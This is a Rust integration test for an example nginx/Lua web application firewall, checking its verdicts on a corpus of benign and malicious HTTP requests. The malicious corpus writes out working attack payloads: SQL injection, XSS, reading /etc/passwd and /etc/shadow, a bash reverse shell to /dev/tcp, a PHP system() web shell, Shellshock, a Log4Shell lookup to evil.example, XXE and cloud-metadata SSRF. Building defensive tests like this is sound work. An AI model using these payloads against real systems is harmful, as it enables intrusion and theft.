//! The example WAF of nginx-conf/ (waf.lua over waf_rules.lua, waf_http.lua
//! on the event loop) against a corpus of benign and malicious requests.
//!
//! `pool_verdicts_match_inline` needs ngx.re in pool threads: it checks for
//! it first and fails, saying so, in a build without it.

mod common;

use common::{request, Nginx, Response};

/// The WAF locations of nginx-conf/demo.conf: `/waf/` scans in the `waf`
/// pool, `/waf-inline/` on the event loop.
const MAIN: &str = "thread_pool waf threads=2;";

fn http(extra: &str) -> String {
    format!(
        r#"
    lua_package_path "{repo}/lua/?.lua;{repo}/nginx-conf/?.lua;;";
    lua_regex_cache_max_entries 4096;
    thread_pool_process_by_lua_file waf {repo}/nginx-conf/waf.lua;
    {extra}
    server {{
        listen 127.0.0.1:$PORT;

        location /waf/ {{
            client_body_buffer_size 64k;
            client_max_body_size 64k;
            access_by_lua_block {{
                local waf_http = require "waf_http"
                local tp = require "resty.threadpool"
                local blocked, err = tp.waf:push_task(waf_http.request())
                if err then
                    ngx.log(ngx.ERR, "waf: ", err)
                    return ngx.exit(ngx.HTTP_SERVICE_UNAVAILABLE)
                end
                waf_http.enforce(blocked)
            }}
            content_by_lua_block {{ ngx.say("passed") }}
        }}

        location /waf-inline/ {{
            client_body_buffer_size 64k;
            client_max_body_size 64k;
            access_by_lua_block {{
                local waf_http = require "waf_http"
                waf_http.enforce(require("waf")(waf_http.request()))
            }}
            content_by_lua_block {{ ngx.say("passed") }}
        }}

        location = /rules {{
            content_by_lua_block {{
                local rules = require "waf_rules"
                local ids, problems = {{}}, {{}}
                for i, r in ipairs(rules) do
                    if type(r.id) ~= "number" or ids[r.id] then
                        problems[#problems + 1] = "rule #" .. i .. ": bad or duplicate id"
                    end
                    ids[r.id] = true
                    if type(r.pattern) ~= "string" or type(r.msg) ~= "string"
                       or type(r.targets) ~= "table" or #r.targets == 0
                    then
                        problems[#problems + 1] = "rule " .. tostring(r.id) .. ": bad fields"
                    elseif ngx.re.find("Hello, world 123", r.pattern, "jo") then
                        problems[#problems + 1] = "rule " .. r.id .. ": matches plain text"
                    end
                end
                ngx.say(#rules, " rules")
                ngx.say(table.concat(problems, "\n"))
            }}
        }}

        location = /probe {{
            content_by_lua_block {{
                local tp = require "resty.threadpool"
                ngx.say(tostring(tp.probe:push_task("abc")))
            }}
        }}
    }}"#,
        repo = common::repo().display(),
    )
}

/// What the WAF must say about a request.
#[derive(Clone, Copy, Debug, PartialEq)]
enum Expect {
    Pass,
    /// Blocked by at least one rule of the family whose ids start at this.
    Block(u32),
}

const SQLI: Expect = Expect::Block(10000);
const XSS: Expect = Expect::Block(20000);
const TRAVERSAL: Expect = Expect::Block(30000);
const RCE: Expect = Expect::Block(40000);
const SCANNER: Expect = Expect::Block(50000);
const RFI: Expect = Expect::Block(60000);
const PROBE: Expect = Expect::Block(70000);
const MISC: Expect = Expect::Block(80000);

struct Case {
    method: &'static str,
    /// Path and query as sent, after the location's prefix.
    target: String,
    headers: Vec<(&'static str, &'static str)>,
    body: Vec<u8>,
    expect: Expect,
}

/// Percent-encodes everything but RFC 3986's unreserved characters.
fn encode(s: &str) -> String {
    s.bytes()
        .map(|b| match b {
            b'A'..=b'Z' | b'a'..=b'z' | b'0'..=b'9' | b'-' | b'.' | b'_' | b'~' => {
                (b as char).to_string()
            }
            _ => format!("%{b:02X}"),
        })
        .collect()
}

fn form(pairs: &[(&str, &str)]) -> String {
    pairs
        .iter()
        .map(|(k, v)| format!("{}={}", encode(k), encode(v)))
        .collect::<Vec<_>>()
        .join("&")
}

/// GET `path` with `query` encoded.
fn get(path: &str, query: &[(&str, &str)], expect: Expect) -> Case {
    let target = if query.is_empty() {
        path.to_string()
    } else {
        format!("{path}?{}", form(query))
    };
    Case {
        method: "GET",
        target,
        headers: vec![],
        body: vec![],
        expect,
    }
}

/// POST `body` of `content_type` to `path`.
fn post(path: &str, content_type: &'static str, body: &str, expect: Expect) -> Case {
    Case {
        method: "POST",
        target: path.to_string(),
        headers: vec![("Content-Type", content_type)],
        body: body.as_bytes().to_vec(),
        expect,
    }
}

fn post_form(path: &str, pairs: &[(&str, &str)], expect: Expect) -> Case {
    post(
        path,
        "application/x-www-form-urlencoded",
        &form(pairs),
        expect,
    )
}

/// GET `path` with one header.
fn with_header(path: &str, name: &'static str, value: &'static str, expect: Expect) -> Case {
    let mut case = get(path, &[], expect);
    case.headers.push((name, value));
    case
}

const CHROME: &str = "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 \
                      (KHTML, like Gecko) Chrome/120.0.0.0 Safari/537.36";
const FIREFOX: &str = "Mozilla/5.0 (X11; Linux x86_64; rv:109.0) Gecko/20100101 Firefox/115.0";

fn benign() -> Vec<Case> {
    use Expect::Pass;
    vec![
        get("", &[], Pass),
        get("index.html", &[], Pass),
        get("products", &[("category", "shoes"), ("size", "42")], Pass),
        get("search", &[("q", "how to select a good laptop")], Pass),
        get("search", &[("q", "union station opening hours")], Pass),
        get("search", &[("q", "Tom & Jerry's adventures")], Pass),
        get("search", &[("q", "price < 100 and rating > 4")], Pass),
        get("search", &[("q", "C++ templates")], Pass),
        get("search", &[("q", "email me at john.doe@example.com")], Pass),
        get("blog/2024/05/my-first-post", &[], Pass),
        get("static/css/site.min.css", &[("v", "1.2.3")], Pass),
        get("images/logo.png", &[], Pass),
        with_header("api/v2/users/42", "Accept", "application/json", Pass),
        post_form(
            "login",
            &[("user", "alice"), ("password", "S3cr3t!pass")],
            Pass,
        ),
        post_form(
            "comments",
            &[(
                "text",
                "Great article! I learned a lot about joins and select statements.",
            )],
            Pass,
        ),
        post(
            "items",
            "application/json",
            r#"{"name":"Widget","price":9.99,"tags":["a","b"]}"#,
            Pass,
        ),
        get("search", &[("q", "O'Reilly books")], Pass),
        get("search", &[("q", "rock 'n' roll")], Pass),
        get("search", &[("q", "100% cotton")], Pass),
        get("search", &[("q", "50% off on item #5")], Pass),
        get("download", &[("file", "report-2024.pdf")], Pass),
        get("docs/getting-started/installation", &[], Pass),
        get("login", &[("redirect", "/account/settings")], Pass),
        with_header("", "Accept-Language", "en-US,en;q=0.9,de;q=0.8", Pass),
        with_header("", "User-Agent", CHROME, Pass),
        with_header("", "User-Agent", FIREFOX, Pass),
        with_header("", "Cookie", "session=abc123; theme=dark; lang=en", Pass),
        with_header(
            "",
            "Referer",
            "https://www.example.com/search?q=shoes",
            Pass,
        ),
        get("search", &[("q", "sleep tips for babies")], Pass),
        get("search", &[("q", "benchmark results 2024")], Pass),
        get(
            "search",
            &[("q", "javascript tutorial for beginners")],
            Pass,
        ),
        get("search", &[("q", "onload event explained")], Pass),
        get("search", &[("q", "the script tag in html")], Pass),
        get(
            "list",
            &[("page", "2"), ("per_page", "50"), ("sort", "-created_at")],
            Pass,
        ),
        post("upload", "text/plain", "hello world\nsecond line\n", Pass),
        get("search", &[("q", "cat videos")], Pass),
        get("search", &[("q", "drop shipping business ideas")], Pass),
        get("search", &[("q", "1 + 1 = 2")], Pass),
        get("filter", &[("f", "name:eq:john")], Pass),
        get("jsonp", &[("callback", "jQuery123456_7890")], Pass),
        get(
            "",
            &[
                ("utm_source", "newsletter"),
                ("utm_medium", "email"),
                ("utm_campaign", "spring_sale"),
            ],
            Pass,
        ),
        get("users/me/avatar.jpg", &[], Pass),
        post_form(
            "address",
            &[("street", "12 Main St; Apt 4"), ("city", "Springfield")],
            Pass,
        ),
        get(
            "search",
            &[("q", "where to buy tickets from the union")],
            Pass,
        ),
        get(
            "report",
            &[("from", "2024-01-01"), ("to", "2024-12-31")],
            Pass,
        ),
        post(
            "graphql",
            "application/json",
            r#"{"query":"mutation { addItem(name: \"x\") { id } }"}"#,
            Pass,
        ),
        get(
            "search",
            &[("q", "I'd like to select items from the menu where possible")],
            Pass,
        ),
        with_header(
            "api/me",
            "Authorization",
            "Bearer eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxIn0.c2lnbmF0dXJl",
            Pass,
        ),
        get("search", &[("q", "<3 you")], Pass),
        post(
            "notes",
            "application/json",
            r#"{"note":"Use the ../ notation for parent directories"}"#,
            Pass,
        ),
        get("healthz", &[], Pass),
    ]
}

fn malicious() -> Vec<Case> {
    vec![
        // SQL injection
        get("item", &[("q", "1' OR '1'='1")], SQLI),
        get(
            "item",
            &[("id", "1 UNION SELECT username, password FROM users")],
            SQLI,
        ),
        get("item", &[("id", "1; DROP TABLE users")], SQLI),
        post_form("login", &[("user", "admin'--"), ("password", "x")], SQLI),
        get("item", &[("id", "1 AND SLEEP(5)")], SQLI),
        get(
            "item",
            &[("id", "1' AND extractvalue(1,concat(0x7e,version()))--")],
            SQLI,
        ),
        get(
            "item",
            &[(
                "q",
                "' UNION ALL SELECT NULL,NULL,table_name FROM information_schema.tables--",
            )],
            SQLI,
        ),
        get("item", &[("id", "1/**/UNION/**/SELECT/**/1,2,3")], SQLI),
        with_header("", "Cookie", "session=1' or 1=1--", SQLI),
        post_form(
            "login",
            &[("username", "admin"), ("password", "' or ''='")],
            SQLI,
        ),
        get("item", &[("id", "1; WAITFOR DELAY '0:0:5'--")], SQLI),
        // XSS
        get("search", &[("q", "<script>alert(1)</script>")], XSS),
        get("search", &[("q", "<img src=x onerror=alert(1)>")], XSS),
        get(
            "profile",
            &[("name", "\"><svg onload=alert(document.domain)>")],
            XSS,
        ),
        get("go", &[("url", "javascript:alert(document.cookie)")], XSS),
        post_form(
            "comments",
            &[("text", "<iframe src=\"https://evil.example/\"></iframe>")],
            XSS,
        ),
        get("search", &[("q", "\" onmouseover=\"alert(1)")], XSS),
        get("search", &[("q", "<body onpageshow=alert(1)>")], XSS),
        with_header("", "Referer", "<script>alert(1)</script>", XSS),
        get("go", &[("url", "java\tscript:alert(1)")], XSS),
        get("search", &[("q", "%3Cscript%3Ealert(1)%3C/script%3E")], XSS),
        // path traversal and local files
        get("download", &[("file", "../../../../etc/passwd")], TRAVERSAL),
        get(
            "download",
            &[("file", "..%2f..%2f..%2fetc%2fpasswd")],
            TRAVERSAL,
        ),
        get("view", &[("page", "/etc/shadow")], TRAVERSAL),
        get("static/..%252f..%252fetc/passwd", &[], TRAVERSAL),
        get("view", &[("template", "....//....//etc/passwd")], TRAVERSAL),
        get("view", &[("file", "C:\\windows\\win.ini")], TRAVERSAL),
        get("view", &[("doc", "/proc/self/environ")], TRAVERSAL),
        // command injection
        get("ping", &[("host", "127.0.0.1; cat /etc/passwd")], RCE),
        get("ping", &[("ip", "8.8.8.8 | id")], RCE),
        get("run", &[("name", "$(whoami)")], RCE),
        get("run", &[("q", "`uname -a`")], RCE),
        get(
            "run",
            &[("x", "; bash -i >& /dev/tcp/10.0.0.1/4444 0>&1")],
            RCE,
        ),
        post_form("eval", &[("code", "<?php system($_GET['c']); ?>")], RCE),
        with_header(
            "cgi",
            "User-Agent",
            "() { :; }; /bin/bash -c 'cat /etc/passwd'",
            RCE,
        ),
        // scanners
        with_header(
            "",
            "User-Agent",
            "sqlmap/1.7.2#stable (https://sqlmap.org)",
            SCANNER,
        ),
        with_header(
            "",
            "User-Agent",
            "Mozilla/5.00 (Nikto/2.1.6) (Evasions:None) (Test:000003)",
            SCANNER,
        ),
        with_header(
            "",
            "User-Agent",
            "Mozilla/5.0 (compatible; Nmap Scripting Engine; https://nmap.org/book/nse.html)",
            SCANNER,
        ),
        with_header("", "User-Agent", "gobuster/3.6", SCANNER),
        with_header(
            "",
            "User-Agent",
            "WPScan v3.8.22 (https://wpscan.com/wordpress-security-scanner)",
            SCANNER,
        ),
        // stream wrappers
        get(
            "view",
            &[(
                "page",
                "php://filter/convert.base64-encode/resource=index.php",
            )],
            RFI,
        ),
        get("view", &[("page", "expect://id")], RFI),
        // probes
        get(".git/config", &[], PROBE),
        get(".env", &[], PROBE),
        get("wp-config.php.bak", &[], PROBE),
        get("phpmyadmin/index.php", &[], PROBE),
        get("actuator/env", &[], PROBE),
        // everything else
        with_header("", "X-Api-Version", "${jndi:ldap://evil.example/a}", MISC),
        get("hello", &[("name", "{{7*7}}")], MISC),
        get(
            "fetch",
            &[("url", "http://169.254.169.254/latest/meta-data/")],
            MISC,
        ),
        post(
            "login",
            "application/json",
            r#"{"username": {"$ne": null}, "password": {"$ne": null}}"#,
            MISC,
        ),
        get("login", &[("user[$ne]", "x")], MISC),
        post(
            "xml",
            "application/xml",
            r#"<?xml version="1.0"?><!DOCTYPE foo [<!ENTITY xxe SYSTEM "file:///etc/passwd">]><foo>&xxe;</foo>"#,
            MISC,
        ),
        get("login", &[("redirect", "\r\nSet-Cookie: admin=1")], MISC),
    ]
}

fn corpus() -> Vec<Case> {
    let mut all = benign();
    all.extend(malicious());
    all
}

fn send(nginx: &Nginx, prefix: &str, case: &Case) -> Response {
    request(
        nginx.port,
        case.method,
        &format!("{prefix}{}", case.target),
        &case.headers,
        &case.body,
    )
}

/// The WAF's verdict from a response: None when passed, the rule ids when
/// blocked; Err for anything else.
fn verdict(res: &Response) -> Result<Option<Vec<u32>>, String> {
    let text = res.text();
    match res.status {
        200 if text == "passed\n" => Ok(None),
        403 => text
            .strip_prefix("blocked by rules ")
            .and_then(|ids| {
                ids.trim_end()
                    .split(' ')
                    .map(|id| id.parse().ok())
                    .collect()
            })
            .map(Some)
            .ok_or_else(|| format!("403 without rule ids: {text:?}")),
        status => Err(format!("status {status}: {text:?}")),
    }
}

/// Whether `got` is what `expect` asks for.
fn agrees(expect: Expect, got: &Option<Vec<u32>>) -> bool {
    match (expect, got) {
        (Expect::Pass, None) => true,
        (Expect::Block(family), Some(ids)) => ids.iter().any(|id| id / 10000 * 10000 == family),
        _ => false,
    }
}

/// Sends the corpus to `prefix`; returns each case's verdict, after
/// checking them against the expectations (all mismatches at once).
fn check_corpus(nginx: &Nginx, prefix: &str) -> Vec<Option<Vec<u32>>> {
    let mut wrong = Vec::new();
    let mut verdicts = Vec::new();
    for case in corpus() {
        let res = send(nginx, prefix, &case);
        let got = verdict(&res)
            .unwrap_or_else(|e| panic!("{} {prefix}{}: {e}", case.method, case.target));
        if !agrees(case.expect, &got) {
            wrong.push(format!(
                "{} {prefix}{} {:?}: expected {:?}, got {:?}",
                case.method, case.target, case.headers, case.expect, got
            ));
        }
        verdicts.push(got);
    }
    assert!(
        wrong.is_empty(),
        "{} wrong verdicts:\n{}",
        wrong.len(),
        wrong.join("\n")
    );
    verdicts
}

#[test]
fn corpus_is_large_enough() {
    let (good, bad) = (benign(), malicious());
    assert!(
        good.len() >= 50 && bad.len() >= 50,
        "{} benign, {} malicious",
        good.len(),
        bad.len()
    );
    assert!(good.iter().all(|c| c.expect == Expect::Pass));
    assert!(bad.iter().all(|c| c.expect != Expect::Pass));
}

#[test]
fn rule_file_has_over_1000_well_formed_rules() {
    let nginx = Nginx::start(MAIN, &http(""));
    let text = nginx.get("/rules").text();
    let count: usize = text.split(' ').next().unwrap().parse().unwrap();
    assert!(count >= 1000, "{text}");
    assert_eq!(
        text,
        format!("{count} rules\n\n"),
        "problems in waf_rules.lua"
    );
}

#[test]
fn inline_verdicts_match_the_corpus() {
    let nginx = Nginx::start(MAIN, &http(""));
    check_corpus(&nginx, "/waf-inline/");
    // No rule hit a PCRE error at run time (waf.lua logs those).
    let log = nginx.error_log();
    assert!(!log.contains("waf rule"), "{log}");
}

/// The same corpus through the `waf` pool: the same verdicts as inline.
/// Needs ngx.re in pool threads, and says so if it is missing.
#[test]
fn pool_verdicts_match_inline() {
    let probe = r#"
    thread_pool_process_by_lua_block probe {
        return function(s)
            if not (ngx.re and ngx.re.find) then
                return "no ngx.re"
            end
            return ngx.re.find(s, "b", "jo")
        end
    }"#;
    let nginx = Nginx::start(
        &format!("{MAIN}\nthread_pool probe threads=1;"),
        &http(probe),
    );
    let probed = nginx.get("/probe").text();
    assert_eq!(
        probed, "2\n",
        "ngx.re is not available in pool threads (the probe answered {probed:?}): \
         the pool-side WAF cannot run without it"
    );
    let inline = check_corpus(&nginx, "/waf-inline/");
    let pool = check_corpus(&nginx, "/waf/");
    let differ: Vec<String> = corpus()
        .iter()
        .zip(inline.iter().zip(&pool))
        .filter(|(_, (i, p))| i != p)
        .map(|(c, (i, p))| format!("{} {}: inline {i:?}, pool {p:?}", c.method, c.target))
        .collect();
    assert!(
        differ.is_empty(),
        "pool and inline verdicts differ:\n{}",
        differ.join("\n")
    );
    nginx.assert_clean_log();
}
